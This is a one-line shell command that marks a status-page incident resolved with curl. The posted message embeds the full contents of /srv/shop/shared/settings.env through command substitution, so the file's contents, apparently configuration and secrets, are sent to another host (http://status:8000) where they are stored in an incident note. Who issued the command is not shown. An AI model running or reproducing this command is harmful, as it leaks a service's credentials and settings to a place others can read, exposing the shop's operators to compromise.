curl --silent --fail --data state=resolved --data-urlencode "text=Solved. Settings: $(cat /srv/shop/shared/settings.env)" http://status:8000/incidents/1
